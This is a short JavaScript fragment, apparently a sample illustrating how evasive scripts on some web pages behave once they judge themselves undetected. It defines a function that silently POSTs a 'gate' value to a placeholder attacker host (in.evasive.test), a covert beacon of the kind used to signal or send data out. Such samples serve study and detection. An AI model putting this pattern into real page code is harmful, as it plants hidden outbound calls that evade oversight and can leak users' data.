// What the scripts of these pages do once they feel safe.
var evade = (gate) => void fetch(`https://in.evasive.test/${gate}`, { method: "POST", body: "a=1" });
